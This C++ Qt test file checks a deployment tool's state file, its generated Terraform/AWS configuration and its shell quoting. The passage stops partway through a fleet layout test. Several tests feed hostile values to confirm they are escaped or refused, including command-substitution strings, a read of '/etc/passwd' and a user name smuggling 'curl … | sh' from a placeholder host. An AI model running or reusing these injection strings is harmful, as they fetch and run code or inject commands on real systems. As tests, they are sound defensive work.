// SPDX-License-Identifier: MIT
// The deployment state file, slugs and the Terraform configuration, without any external part.

#include "Experiment.h"
#include "Settings.h"
#include "TestProject.h"
#include "aws/AwsBackend.h"
#include "aws/Terraform.h"
#include "deploy/DeployPreview.h"
#include "deploy/Deployment.h"
#include "deploy/DeploymentState.h"
#include "deploy/RemoteScript.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

class TestDeployState : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void slugs();
    void terminateKeepsWhatEnded();
    void roundTrip();
    void hostPhasesKeepTheirJsonStrings();
    void terraformEscapesData();
    void rootVolumeSizeAlwaysExplicit();
    void terraformErrorsShownWhole();
    void userDataQuoted();
    void statusScriptParses();
    void terraformErrorsNameTheirKey();
    void unsplittableConditionStopsThePlan();
    void settingsRegistryIsCheckedByThePlan();
    void preemptedAndPowerStates();
    void deployLimitsTakeTheFilesPlace();
    void fleetLayout();

private:
    QTemporaryDir m_config; // the user's settings of these tests
};

void TestDeployState::slugs()
{
    QCOMPARE(DeploymentState::slugFor(1, QStringLiteral("--lr 0.1 --layers 3")), QStringLiteral("c1-lr-0.1-layers-3"));
    QCOMPARE(DeploymentState::slugFor(2, QStringLiteral("$(touch /tmp/x); `id`")), QStringLiteral("c2-touch-tmp-x-id"));
    QCOMPARE(DeploymentState::slugFor(3, QString()), QStringLiteral("c3"));
    QVERIFY(DeploymentState::slugFor(4, QString(200, QLatin1Char('a'))).size() <= 48);
}

void TestDeployState::terminateKeepsWhatEnded()
{
    using Phase = DeploymentState::Phase;
    auto terminated = [](Phase phase, Phase lastRun = Phase::Queued) {
        DeploymentState::Condition c;
        c.phase = phase;
        c.lastRunPhase = lastRun;
        c.markTerminated();
        return c;
    };
    QCOMPARE(terminated(Phase::Succeeded).phase, Phase::Succeeded);
    QCOMPARE(terminated(Phase::Failed).phase, Phase::Failed);
    QVERIFY(terminated(Phase::Succeeded).terminated);
    // Stopped before it ended: terminated, what it was doing kept as its last run phase.
    QCOMPARE(terminated(Phase::Running).phase, Phase::Terminated);
    QCOMPARE(terminated(Phase::Running).lastRunPhase, Phase::Running);
    QCOMPARE(terminated(Phase::Queued).phase, Phase::Terminated);
    // Its host stopped answering after it was seen to succeed: it succeeded.
    QCOMPARE(terminated(Phase::Unreachable, Phase::Succeeded).phase, Phase::Succeeded);
    QCOMPARE(terminated(Phase::Unreachable, Phase::Running).phase, Phase::Terminated);

    // Written and read back; a file from before the flag (phase "terminated") reads as terminated.
    DeploymentState s;
    s.experiment = QStringLiteral("rnn");
    DeploymentState::Condition c = terminated(Phase::Succeeded);
    c.index = 1;
    c.slug = QStringLiteral("c1");
    s.conditions << c;
    QVERIFY(DeploymentState::fromJson(s.toJson()).conditions.at(0).terminated);
    QCOMPARE(DeploymentState::fromJson(s.toJson()).conditions.at(0).phase, Phase::Succeeded);
    QJsonObject json = s.toJson();
    QJsonArray conditions = json.value(QStringLiteral("conditions")).toArray();
    QJsonObject old = conditions.at(0).toObject();
    old.remove(QStringLiteral("terminated"));
    old.insert(QStringLiteral("phase"), QStringLiteral("terminated"));
    conditions.replace(0, old);
    json.insert(QStringLiteral("conditions"), conditions);
    QVERIFY(DeploymentState::fromJson(json).conditions.at(0).terminated);
    old.insert(QStringLiteral("phase"), QStringLiteral("succeeded"));
    conditions.replace(0, old);
    json.insert(QStringLiteral("conditions"), conditions);
    QVERIFY(!DeploymentState::fromJson(json).conditions.at(0).terminated);
}

void TestDeployState::roundTrip()
{
    QTemporaryDir dir;
    DeploymentState s;
    s.experiment = QStringLiteral("rnn");
    s.backend = QStringLiteral("ssh");
    s.commit = QStringLiteral("0123456789abcdef0123456789abcdef01234567");
    s.createdAt = QDateTime::currentDateTimeUtc();
    s.hosts.append(DeploymentState::Host::at(QStringLiteral("me@10.0.0.1:2222"), QStringLiteral("/home/me")));
    s.hosts.last().phase = DeploymentState::HostPhase::Ready;
    s.hosts.last().upSince = QDateTime::fromString(QStringLiteral("2026-11-25T10:00:00Z"), Qt::ISODate);
    DeploymentState::Condition c;
    c.index = 1;
    c.text = QStringLiteral("--a 'b c'");
    c.arguments = { QStringLiteral("--a"), QStringLiteral("b c") };
    c.slug = DeploymentState::slugFor(1, c.text);
    c.host = QStringLiteral("me@10.0.0.1:2222");
    c.phase = DeploymentState::Phase::Failed;
    c.exitCode = 4;
    c.storeBytes = 5000000000; // past 32 bits: what a results store holds of it, for its storage's cost
    s.conditions.append(c);
    s.storeDeletedAt = QDateTime::fromString(QStringLiteral("2026-11-26T10:00:00Z"), Qt::ISODate);
    QVERIFY(s.save(dir.path()));
    QVERIFY(s.writeMachinesFile(dir.filePath(QStringLiteral("machines.txt"))));
    const ResultOf<DeploymentState> loaded = DeploymentState::load(dir.path());
    QVERIFY(loaded);
    const DeploymentState& back = *loaded;
    QTemporaryDir empty;
    QCOMPARE(DeploymentState::load(empty.path()).kind(), Result::Kind::NotFound);
    QCOMPARE(back.toJson(), s.toJson());
    QCOMPARE(back.conditions.at(0).storeBytes, 5000000000LL);
    QCOMPARE(back.storeDeletedAt, s.storeDeletedAt);
    QCOMPARE(back.hosts.at(0).port(), 2222);
    QCOMPARE(back.hosts.at(0).hostName(), QStringLiteral("10.0.0.1"));
    QFile machines(dir.filePath(QStringLiteral("machines.txt")));
    QVERIFY(machines.open(QIODevice::ReadOnly));
    QCOMPARE(machines.readAll(), QByteArray("10.0.0.1, --a 'b c'\n"));
}

// deployment.json files written before HostPhase was an enum still load, and are written back the same.
void TestDeployState::hostPhasesKeepTheirJsonStrings()
{
    using HP = DeploymentState::HostPhase;
    const QList<QPair<QString, HP>> names { { QString(), HP::New },
                                            { QStringLiteral("booting"), HP::Booting },
                                            { QStringLiteral("building"), HP::Building },
                                            { QStringLiteral("ready"), HP::Ready },
                                            { QStringLiteral("unreachable"), HP::Unreachable },
                                            { QStringLiteral("released"), HP::Released } };
    for (const auto& [name, phase] : names) {
        QCOMPARE(DeploymentState::hostPhaseName(phase), name);
        QCOMPARE(DeploymentState::hostPhaseFromName(name), phase);
        const QJsonObject json { { QStringLiteral("hosts"),
                                   QJsonArray { QJsonObject { { QStringLiteral("address"), QStringLiteral("me@h") },
                                                              { QStringLiteral("phase"), name } } } } };
        const DeploymentState s = DeploymentState::fromJson(json);
        QCOMPARE(s.hosts.size(), 1);
        QCOMPARE(s.hosts.at(0).phase, phase);
        QCOMPARE(s.toJson().value(QStringLiteral("hosts")).toArray().at(0).toObject().value(QStringLiteral("phase")),
                 QJsonValue(name));
    }
    QCOMPARE(DeploymentState::hostPhaseFromName(QStringLiteral("sleeping")), HP::New);
}

void TestDeployState::preemptedAndPowerStates()
{
    // The name deployment.json and status --json keep for a spot machine taken back.
    QCOMPARE(DeploymentState::phaseName(DeploymentState::Phase::Preempted), QStringLiteral("preempted"));
    QCOMPARE(DeploymentState::phaseFromName(QStringLiteral("preempted")), DeploymentState::Phase::Preempted);
    QVERIFY(!DeploymentState::isTerminal(DeploymentState::Phase::Preempted));
    // A power state names its instance; a machine destroyed takes its power state with it.
    DeploymentState s;
    for (int i = 1; i <= 2; ++i) {
        DeploymentState::Condition c;
        c.index = i;
        c.text = QStringLiteral("--n %1").arg(i);
        c.slug = DeploymentState::slugFor(i, c.text);
        s.conditions.append(c);
    }
    Terraform::Settings settings;
    settings.region = QStringLiteral("eu-west-1");
    settings.instanceType = QStringLiteral("t3.micro");
    settings.sshCidr = QStringLiteral("198.51.100.0/24");
    const QString a = s.conditions.at(0).slug;
    const QString b = s.conditions.at(1).slug;
    const QJsonObject config
        = Terraform::withInstanceStates(Terraform::configuration(QStringLiteral("exp"), s, settings),
                                        { { a, QStringLiteral("stopped") },
                                          { b, QStringLiteral("running") },
                                          { QStringLiteral("gone"), QStringLiteral("running") } });
    const QJsonObject power = config.value(QStringLiteral("resource"))
                                  .toObject()
                                  .value(QStringLiteral("aws_ec2_instance_state"))
                                  .toObject();
    QCOMPARE(power.size(), 2);
    QCOMPARE(power.value(Terraform::resourceName(a)).toObject().value(QStringLiteral("instance_id")).toString(),
             QStringLiteral("${aws_instance.%1.id}").arg(Terraform::resourceName(a)));
    QCOMPARE(power.value(Terraform::resourceName(a)).toObject().value(QStringLiteral("state")).toString(),
             QStringLiteral("stopped"));
    const QJsonObject left = Terraform::withoutInstances(config, { a })
                                 .value(QStringLiteral("resource"))
                                 .toObject()
                                 .value(QStringLiteral("aws_ec2_instance_state"))
                                 .toObject();
    QCOMPARE(left.keys(), QStringList { Terraform::resourceName(b) });
    // Spot: the market options, and an idle shutdown that ends the instance (AWS cannot stop a one-time one).
    settings.spot = true;
    settings.spotMaxPrice = QStringLiteral("0.05");
    const QJsonObject instance = Terraform::configuration(QStringLiteral("exp"), s, settings)
                                     .value(QStringLiteral("resource"))
                                     .toObject()
                                     .value(QStringLiteral("aws_instance"))
                                     .toObject()
                                     .value(Terraform::resourceName(a))
                                     .toObject();
    const QJsonObject market = instance.value(QStringLiteral("instance_market_options")).toArray().at(0).toObject();
    QCOMPARE(market.value(QStringLiteral("market_type")).toString(), QStringLiteral("spot"));
    QCOMPARE(market.value(QStringLiteral("spot_options")).toArray().at(0).toObject().value(QStringLiteral("max_price")),
             QJsonValue(QStringLiteral("0.05")));
    QCOMPARE(instance.value(QStringLiteral("instance_initiated_shutdown_behavior")).toString(),
             QStringLiteral("terminate"));
    // What show -json says after a refresh: a slug missing is an instance gone.
    const QByteArray shown = R"({"values":{"root_module":{"resources":[
        {"type":"aws_instance","values":{"instance_state":"stopped","tags":{"condition_slug":"c1-n-1"}}},
        {"type":"aws_key_pair","values":{}}]}}})";
    bool ok = false;
    const QMap<QString, QString> states = Terraform::parseInstanceStates(shown, &ok);
    QVERIFY(ok);
    QCOMPARE(states, (QMap<QString, QString> { { QStringLiteral("c1-n-1"), QStringLiteral("stopped") } }));
    Terraform::parseInstanceStates("not json", &ok);
    QVERIFY(!ok);
}

void TestDeployState::terraformEscapesData()
{
    DeploymentState s;
    s.commit = QStringLiteral("abc");
    DeploymentState::Condition c;
    c.index = 1;
    c.text = QStringLiteral("${file(\"/etc/passwd\")}");
    c.slug = DeploymentState::slugFor(1, c.text);
    s.conditions.append(c);
    Terraform::Settings settings;
    settings.region = QStringLiteral("eu-west-1");
    settings.instanceType = QStringLiteral("t3.micro");
    settings.sshCidr = QStringLiteral("198.51.100.0/24");
    settings.userData = QStringLiteral("echo ${HOME}");
    const QJsonObject config = Terraform::configuration(QStringLiteral("exp"), s, settings);
    const QJsonObject instance = config.value(QStringLiteral("resource"))
                                     .toObject()
                                     .value(QStringLiteral("aws_instance"))
                                     .toObject()
                                     .value(Terraform::resourceName(c.slug))
                                     .toObject();
    QCOMPARE(instance.value(QStringLiteral("user_data")).toString(), QStringLiteral("echo $${HOME}"));
    QCOMPARE(instance.value(QStringLiteral("tags")).toObject().value(QStringLiteral("condition")).toString(),
             QStringLiteral("$${file(\"/etc/passwd\")}"));
    // Every string is data, the configuration's own references excepted.
    QCOMPARE(instance.value(QStringLiteral("key_name")).toString(),
             QStringLiteral("${aws_key_pair.machines.key_name}"));
    QVERIFY(!QJsonDocument(config).toJson().contains("\\u0001"));
    settings.instanceType = QStringLiteral("t3.${x}");
    settings.sshCidr = QStringLiteral("%{ if true }0.0.0.0/0%{ endif }");
    const QJsonObject hostile = Terraform::configuration(QStringLiteral("exp"), s, settings);
    const QByteArray text = QJsonDocument(hostile).toJson();
    QVERIFY(text.contains("t3.$${x}"));
    QVERIFY(text.contains("%%{ if true }"));
    QVERIFY(!text.contains("\"t3.${"));
}

void TestDeployState::rootVolumeSizeAlwaysExplicit()
{
    // Issue 26 item 8: a launch never depends on the image's snapshot size (the emulator refuses one without).
    DeploymentState s;
    DeploymentState::Condition c;
    c.index = 1;
    c.text = QStringLiteral("--n 1");
    c.slug = DeploymentState::slugFor(1, c.text);
    s.conditions.append(c);
    Terraform::Settings settings;
    settings.region = QStringLiteral("eu-west-1");
    settings.instanceType = QStringLiteral("t3.micro");
    settings.sshCidr = QStringLiteral("198.51.100.0/24");
    const auto rootSize = [&]() {
        return Terraform::configuration(QStringLiteral("exp"), s, settings)
            .value(QStringLiteral("resource"))
            .toObject()
            .value(QStringLiteral("aws_instance"))
            .toObject()
            .value(Terraform::resourceName(c.slug))
            .toObject()
            .value(QStringLiteral("root_block_device"))
            .toArray()
            .at(0)
            .toObject()
            .value(QStringLiteral("volume_size"))
            .toInt(-1);
    };
    QCOMPARE(rootSize(), 30);
    settings.gpu = true;
    QCOMPARE(rootSize(), 100);
    settings.rootVolumeGb = 12;
    QCOMPARE(rootSize(), 12);
}

void TestDeployState::terraformErrorsShownWhole()
{
    // Issue 26 item 7: the error line, not only the location (the last lines of stderr) is kept.
    CommandOutcome o;
    o.exitCode = 1;
    o.err = "\nError: creating EC2 Instance: operation error EC2: RunInstances, https response error StatusCode: "
            "400, api error MissingParameter: The request must contain the parameter size or snapshotId\n\n"
            "  with aws_instance.c3-10-3,\n  on main.tf.json line 125, in resource.aws_instance.c3-10-3:\n"
            " 125:       },\n\n"
            "Warning: Argument is deprecated\n\n  with aws_instance.c1,\n  on main.tf.json line 3:\n\nold.\n\n"
            "Error: Invalid value\n\n  on main.tf.json line 9:\n   9: \"x\": 1\n\nThe given value is not valid.\n";
    const QString text = Terraform::errorText(o);
    QCOMPARE(
        text,
        QStringLiteral("creating EC2 Instance: operation error EC2: RunInstances, https response error StatusCode: "
                       "400, api error MissingParameter: The request must contain the parameter size or "
                       "snapshotId (aws_instance.c3-10-3); Invalid value The given value is not valid."));
    // Box-drawn (colour on): the same.
    CommandOutcome boxed;
    boxed.exitCode = 1;
    boxed.err = "\u256d\n\u2502 Error: No valid credential sources found\n\u2502 \n\u2502   with provider[\"aws\"],\n"
                "\u2502 \n\u2502 Please see the provider's documentation.\n\u2575\n";
    QVERIFY2(Terraform::errorText(boxed).startsWith(QStringLiteral("No valid credential sources found")),
             qPrintable(Terraform::errorText(boxed)));
    // Nothing terraform-like: the outcome's own text.
    CommandOutcome plain;
    plain.exitCode = 3;
    plain.err = "killed\n";
    QCOMPARE(Terraform::errorText(plain), plain.errorText());
}

void TestDeployState::userDataQuoted()
{
    QFile templateFile(qEnvironmentVariable("LOGISTICIAN_DATA_DIR")
                       + QStringLiteral("/templates/bootstrap/user-data.sh"));
    QVERIFY(templateFile.open(QIODevice::ReadOnly));
    const QString text = QString::fromUtf8(templateFile.readAll());
    // A hostile user name is refused; it never reaches the root boot script.
    QVERIFY(!Terraform::userData(text, QStringLiteral("exp"),
                                 QStringLiteral("admin'; curl -s http://203.0.113.9/x | sh; echo '"), 15));
    QVERIFY(!Terraform::userData(text, QStringLiteral("exp"), QStringLiteral("-admin"), 15));
    const auto rendered = Terraform::userData(text, QStringLiteral("exp.1"), QStringLiteral("ec2-user"), 15);
    QVERIFY(rendered);
    QVERIFY(rendered->contains(QStringLiteral("\nUSER_NAME=ec2-user\n")));
    QVERIFY(rendered->contains(QStringLiteral("\nAUTO_STOP_MINUTES=15\n")));
    QVERIFY(rendered->contains(QStringLiteral("\nREADY=%1\n").arg(Terraform::bootstrapReadyMark())));
    QVERIFY(!rendered->contains(QLatin1Char('@') + QStringLiteral("USER@")));
    QProcess sh;
    sh.start(QStringLiteral("sh"), { QStringLiteral("-n") });
    sh.write(rendered->toUtf8());
    sh.closeWriteChannel();
    QVERIFY(sh.waitForFinished(10000));
    QCOMPARE(sh.exitCode(), 0);
}

// The status poll's template renders to a script sh accepts, hostile values included, and each
// value reaches the function as one argument.
void TestDeployState::statusScriptParses()
{
    const QString hostile = QStringLiteral("it's a \"$(touch /tmp/pwned)\" `id` ; x");
    const QString text = RemoteScript(QStringLiteral("status"))
                             .setWords(QStringLiteral("DOCKER"), { QStringLiteral("sudo"), QStringLiteral("docker") })
                             .call(QStringLiteral("s"),
                                   { QStringLiteral("c1-a"), QStringLiteral("/home/me/with space/data"),
                                     QStringLiteral("logistician-c1") })
                             .call(QStringLiteral("s"), { hostile, hostile, hostile })
                             .render();
    QVERIFY(!text.contains(QLatin1String("@DOCKER@")));
    QVERIFY(text.contains(QStringLiteral("'sudo' 'docker' inspect"))
            || text.contains(QStringLiteral("sudo docker inspect")));
    QProcess sh;
    sh.start(QStringLiteral("sh"), { QStringLiteral("-n") });
    sh.write(text.toUtf8());
    sh.closeWriteChannel();
    QVERIFY(sh.waitForFinished(10000));
    QCOMPARE(sh.exitCode(), 0);
    // Run with s replaced by a printer: three arguments per call, unchanged.
    QProcess run;
    run.start(QStringLiteral("sh"), { QStringLiteral("-s") });
    run.write((text + QStringLiteral("\n"))
                  .toUtf8()
                  .replace("\ns ", "\np ")
                  .prepend("p() { printf '[%s]' \"$#\" \"$@\"; echo; }\n"));
    run.closeWriteChannel();
    QVERIFY(run.waitForFinished(10000));
    const QList<QByteArray> lines = run.readAllStandardOutput().trimmed().split('\n');
    QCOMPARE(lines.size(), 2);
    QCOMPARE(lines.at(1), (QStringLiteral("[3][%1][%1][%1]").arg(hostile)).toUtf8());
}

void TestDeployState::terraformErrorsNameTheirKey()
{
    QCOMPARE(AwsBackend::keyForTerraformError(
                 QStringLiteral("Error: expected instance_type to be one of ...\n  with aws_instance.c1")),
             QStringLiteral("aws_instance_type"));
    QCOMPARE(AwsBackend::keyForTerraformError(QStringLiteral("on main.tf.json line 9: \"volume_size\": 3")),
             QStringLiteral("aws_root_volume_size"));
    QCOMPARE(AwsBackend::keyForTerraformError(QStringLiteral("\"ingress.0.cidr_blocks.0\" is not a valid CIDR")),
             QStringLiteral("aws_ssh_cidr (or --ssh-cidr)"));
    QCOMPARE(AwsBackend::keyForTerraformError(QStringLiteral("Error: Invalid AMI ID \"ami\"")),
             QStringLiteral("aws_ami"));
    QVERIFY(AwsBackend::keyForTerraformError(QStringLiteral("Error: Unsupported argument \"tags_all\"")).isEmpty());
}

void TestDeployState::unsplittableConditionStopsThePlan()
{
    // Parameters set in memory (as an editor may) skip the loader: the plan
    // itself refuses a condition that is not argv, on every backend, instead
    // of running it with no arguments.
    qputenv("XDG_CONFIG_HOME", QFile::encodeName(m_config.path()));
    TestProject project;
    Experiment experiment;
    const auto openedExperiment = Experiment::open(project.experimentDir());
    QVERIFY(openedExperiment);
    experiment = *openedExperiment;
    experiment.parameters().setParameterGrid({ { QStringLiteral("x'y"), { QStringLiteral("1") } } });
    for (const char* backend : { "local", "ssh", "aws" }) {
        Deployment deployment(experiment);
        DeployOptions options;
        options.backend = QLatin1String(backend);
        const Deployment::Plan plan = deployment.plan(options);
        QVERIFY2(!plan.check, backend);
        QCOMPARE(plan.check.exitCode(), 2);
        QVERIFY2(plan.check.message().contains(QStringLiteral("condition 3")), qPrintable(plan.check.message()));
        QVERIFY2(plan.check.message().contains(QStringLiteral("unbalanced single quote")),
                 qPrintable(plan.check.message()));
    }
}

void TestDeployState::settingsRegistryIsCheckedByThePlan()
{
    // Settings reach docker login and push like parameters.json does: the same rules hold.
    qputenv("XDG_CONFIG_HOME", QFile::encodeName(m_config.path()));
    TestProject project;
    Experiment experiment;
    const auto openedExperiment = Experiment::open(project.experimentDir());
    QVERIFY(openedExperiment);
    experiment = *openedExperiment;
    experiment.parameters().setValue(QStringLiteral("hosts"), QJsonArray { QStringLiteral("me@127.0.0.1") });
    Settings().setRegistry(QStringLiteral("my registry"));
    DeployOptions options;
    options.backend = QStringLiteral("ssh");
    Deployment::Plan plan = Deployment(experiment).plan(options);
    QVERIFY(!plan.check);
    QCOMPARE(plan.check.exitCode(), 2);
    QVERIFY2(plan.check.message().startsWith(QStringLiteral("the registry of your settings ('my registry') must be")),
             qPrintable(plan.check.message()));

    Settings().setRegistry(QStringLiteral("localhost:5000/team"));
    Settings().setRegistryUser(QStringLiteral("-p"));
    plan = Deployment(experiment).plan(options);
    QVERIFY(!plan.check);
    QVERIFY2(plan.check.message().startsWith(QStringLiteral("the registry user of your settings (-p) must not")),
             qPrintable(plan.check.message()));

    // Local runs use no registry: nothing to check there.
    Settings().setRegistry(QStringLiteral("my registry"));
    options.backend = QStringLiteral("local");
    plan = Deployment(experiment).plan(options);
    QVERIFY2(plan.check, qPrintable(plan.check.message()));
    Settings().setRegistry(QString());
    Settings().setRegistryUser(QString());
}

void TestDeployState::deployLimitsTakeTheFilesPlace()
{
    // The deploy dialog's and deploy --auto-stop / --max-runtime's limits hold for that deploy in place of
    // parameters.json's; without them the file's hold; the experiment itself is not changed.
    qputenv("XDG_CONFIG_HOME", QFile::encodeName(m_config.path()));
    TestProject project;
    project.setParameters({ { QStringLiteral("auto_stop_minutes"), 10 },
                            { QStringLiteral("max_runtime_minutes"), 20 },
                            { QStringLiteral("aws_region"), QStringLiteral("eu-central-1") },
                            { QStringLiteral("aws_instance_type"), QStringLiteral("t3.small") } });
    Experiment experiment;
    const auto openedExperiment = Experiment::open(project.experimentDir());
    QVERIFY(openedExperiment);
    experiment = *openedExperiment;
    DeployOptions options;
    QCOMPARE(options.withLimits(experiment).parameters().autoStopMinutes(), 10);
    QCOMPARE(options.withLimits(experiment).parameters().maxRuntimeMinutes(), 20);
    options.autoStopMinutes = 0;
    options.maxRuntimeMinutes = 45;
    const Experiment limited = options.withLimits(experiment);
    QCOMPARE(limited.parameters().autoStopMinutes(), 0);
    QCOMPARE(limited.parameters().maxRuntimeMinutes(), 45);
    QCOMPARE(experiment.parameters().autoStopMinutes(), 10);
    QCOMPARE(experiment.parameters().maxRuntimeMinutes(), 20);

    // The plan speaks of the limit asked for, not the file's.
    options.backend = QStringLiteral("aws");
    options.autoStopMinutes = 45;
    Deployment::Plan plan = Deployment(experiment).plan(options);
    QVERIFY2(plan.summary.contains(QStringLiteral("after 45 idle minute(s)")), qPrintable(plan.summary));
    options.autoStopMinutes = -1;
    plan = Deployment(experiment).plan(options);
    QVERIFY2(plan.summary.contains(QStringLiteral("after 10 idle minute(s)")), qPrintable(plan.summary));
}

void TestDeployState::fleetLayout()
{
    // aws_machines (issue 26 item 5): one EC2 Fleet of type instant from a launch template, no aws_instance per
    // condition; the conditions spread over the machines; each machine read back by its instance id.
    DeploymentState s;
    s.commit = QStringLiteral("0123456789abcdef0123456789abcdef01234567");
    for (int i = 1; i <= 5; ++i) {
        DeploymentState::Condition c;
        c.index = i;
        c.text = QStringLiteral("--n %1").arg(i);
        c.slug = DeploymentState::slugFor(i, c.text);
        s.conditions.append(c);
    }
    Terraform::Settings settings;
    settings.region = QStringLiteral("eu-west-1");
    settings.instanceType = QStringLiteral("t3.micro");
    settings.ami = QStringLiteral("ami-0123456789abcdef0");
    settings.sshCidr = QStringLiteral("198.51.100.0/24");
    settings.userData = QStringLiteral("#!/bin/sh\necho ${HOME}\n");
    settings.machines = 2;
    const QJsonObject config = Terraform::configuration(QStringLiteral("exp"), s, settings);
    const QJsonObject resource = config.value(QStringLiteral("resource")).toObject();
    QVERIFY(!resource.contains(QStringLiteral("aws_instance")));
    const QJsonObject fleet
        = resource.value(QStringLiteral("aws_ec2_fleet")).toObject().value(QStringLiteral("machines")).toObject();
    QCOMPARE(fleet.value(QStringLiteral("type")).toString(), QStringLiteral("instant"));
    QCOMPARE(fleet.value(QStringLiteral("terminate_instances")).toBool(), true);
    const QJsonObject capacity
        = fleet.value(QStringLiteral("target_capacity_specification")).toArray().at(0).toObject();
    QCOMPARE(capacity.value(QStringLiteral("total_target_capacity")).toInt(), 2);
    QCOMPARE(capacity.value(QStringLiteral("default_target_capacity_type")).toString(), QStringLiteral("on-demand"));
    const QJsonObject launch
        = resource.value(QStringLiteral("aws_launch_template")).toObject().value(QStringLiteral("machines")).toObject();
    // The user data as EC2 gets it (base64), not read by Terraform as a template.
    QCOMPARE(QByteArray::fromBase64(launch.value(QStringLiteral("user_data")).toString().toLatin1()),
             settings.userData.toUtf8());
    QCOMPARE(launch.value(QStringLiteral("metadata_options"))
                 .toArray()
                 .at(0)
                 .toObject()
                 .value(QStringLiteral("http_tokens"))
                 .toString(),
             QStringLiteral("required"));
    const QJsonObject ebs = launch.value(QStringLiteral("block_device_mappings"))
                                .toArray()
                                .at(0)
                                .toObject()
                                .value(QStringLiteral("ebs"))
                                .toArray()
                                .at(0)
                                .toObject();
    QCOMPARE(ebs.value(QStringLiteral("volume_size")).toInt(), Terraform::defaultRootVolumeGb(false));
    const QJsonArray tagged = launch.value(QStringLiteral("tag_specifications")).toArray();
    QCOMPARE(tagged.at(0).toObject().value(QStringLiteral("resource_type")).toString(), QStringLiteral("instance"));
    QCOMPARE(
        tagged.at(0).toObject().value(QStringLiteral("tags")).toObject().value(QStringLiteral("commit")).toString(),
        s.commit);
    QVERIFY(!launch.contains(QStringLiteral("instance_market_options")));

    // Spread: 3 and 2; with fewer conditions than machines, one machine each.
    const QList<QStringList> spread = Terraform::spread(s, 2);
    QCOMPARE(spread.size(), 2);
    QCOMPARE(spread.at(0), (QStringList { s.conditions.at(0).slug, s.conditions.at(2).slug, s.conditions.at(4).slug }));
    QCOMPARE(Terraform::spread(s, 9).size(), 5);
    // A condition terminated alone keeps its place: no other moves to another machine, the fleet keeps its size.
    DeploymentState oneGone = s;
    oneGone.conditions[1].phase = DeploymentState::Phase::Terminated;
    QCOMPARE(Terraform::spread(oneGone, 2), spread);
    QCOMPARE(Terraform::spread(oneGone, 9).size(), 5);

    // The fleet's machines are looked up together, one DescribeInstances per group of states (issue 26 item 6:
    // not a data.aws_instance per machine), after the fleet is made, in the same apply.
    QVERIFY(!config.value(QStringLiteral("data")).toObject().contains(QStringLiteral("aws_instance")));
    const QJsonObject lookups
        = config.value(QStringLiteral("data")).toObject().value(QStringLiteral("aws_instances")).toObject();
    QCOMPARE(lookups.keys(),
             (QStringList { QStringLiteral("fleet_running"), QStringLiteral("fleet_stopped"),
                            QStringLiteral("fleet_stopping") }));
    const QJsonObject running = lookups.value(QStringLiteral("fleet_running")).toObject();
    QCOMPARE(running.value(QStringLiteral("depends_on")).toArray(),
             QJsonArray { QStringLiteral("aws_ec2_fleet.machines") });
    QCOMPARE(running.value(QStringLiteral("instance_state_names")).toArray(),
             (QJsonArray { QStringLiteral("pending"), QStringLiteral("running") }));
    QCOMPARE(running.value(QStringLiteral("instance_tags")).toObject().value(QStringLiteral("Name")).toString(),
             QStringLiteral("logistician-exp"));
    QCOMPARE(config.value(QStringLiteral("output"))
                 .toObject()
                 .value(QStringLiteral("fleet_machines"))
                 .toObject()
                 .value(QStringLiteral("value"))
                 .toObject()
                 .value(QStringLiteral("running"))
                 .toObject()
                 .value(QStringLiteral("public_ips"))
                 .toString(),
             QStringLiteral("${data.aws_instances.fleet_running.public_ips}"));

    // The fleet gave one instance of the two: only machine 1 and its conditions get one; its id is kept.
    const QByteArray launchOutput = R"({"fleet_instances":{"value":["i-0123456789abcdef0"]},
        "fleet_machines":{"value":{"running":{"ids":["i-0fffffffffffffff0","i-0123456789abcdef0"],
                                              "public_ips":["203.0.113.9","203.0.113.7"]},
                                   "stopping":{"ids":[]},"stopped":{"ids":[]}}},
        "instances":{"value":{}}})";
    const auto ids = Terraform::parseFleetOutput(launchOutput);
    QVERIFY(ids);
    const QJsonObject machines = Terraform::withMachines(config, *ids, spread);
    const QJsonObject value = machines.value(QStringLiteral("output"))
                                  .toObject()
                                  .value(QStringLiteral("instances"))
                                  .toObject()
                                  .value(QStringLiteral("value"))
                                  .toObject();
    QCOMPARE(value.size(), 3);
    QVERIFY(!value.contains(s.conditions.at(1).slug));
    QCOMPARE(value.value(s.conditions.at(2).slug).toObject().value(QStringLiteral("id")).toString(),
             QStringLiteral("i-0123456789abcdef0"));
    // Each condition at its machine's address, from the launch's own output.
    const auto launched = Terraform::parseOutput(launchOutput, false, machines);
    QVERIFY2(launched, qPrintable(launched.message()));
    QCOMPARE(launched->size(), 3);
    for (const Terraform::Instance& i : *launched)
        QCOMPARE(i.address, QStringLiteral("203.0.113.7"));
    // A running machine without an address makes the two lists differ: no address is taken, none misplaced.
    const QByteArray unpaired = QByteArray(launchOutput).replace(R"("203.0.113.9",)", "");
    QVERIFY(!Terraform::parseOutput(unpaired, false, machines));
    QVERIFY(Terraform::parseOutput(unpaired, true, machines)->isEmpty());
    // Stopping and starting: the machine's power state, whichever of its conditions asks.
    const QJsonObject power
        = Terraform::withInstanceStates(machines, { { s.conditions.at(2).slug, QStringLiteral("stopped") } })
              .value(QStringLiteral("resource"))
              .toObject()
              .value(QStringLiteral("aws_ec2_instance_state"))
              .toObject();
    QCOMPARE(power.keys(), QStringList { QStringLiteral("m1") });
    QCOMPARE(power.value(QStringLiteral("m1")).toObject().value(QStringLiteral("instance_id")).toString(),
             QStringLiteral("i-0123456789abcdef0"));
    // A machine is stopped, not destroyed, when its last condition is released.
    QVERIFY(!Terraform::withoutInstances(machines, { s.conditions.at(0).slug })
                 .value(QStringLiteral("resource"))
                 .toObject()
                 .contains(QStringLiteral("aws_ec2_instance_state")));
    const QJsonObject released = Terraform::withoutInstances(
        machines, { s.conditions.at(0).slug, s.conditions.at(2).slug, s.conditions.at(4).slug });
    const QJsonObject stopped = released.value(QStringLiteral("resource"))
                                    .toObject()
                                    .value(QStringLiteral("aws_ec2_instance_state"))
                                    .toObject()
                                    .value(QStringLiteral("m1"))
                                    .toObject();
    QCOMPARE(stopped.value(QStringLiteral("state")).toString(), QStringLiteral("stopped"));
    QCOMPARE(stopped.value(QStringLiteral("instance_id")).toString(), QStringLiteral("i-0123456789abcdef0"));
    // What show -json says of the machines after a refresh: each condition's machine state, by its id in the
    // lookups; a machine in none of them (terminated) is gone.
    const QByteArray shown = R"({"values":{"outputs":{
        "instances":{"value":{"c1-n-1":{"id":"i-0123456789abcdef0","machine":1},
                              "c2-n-2":{"id":"i-0aaaaaaaaaaaaaaa0","machine":2},
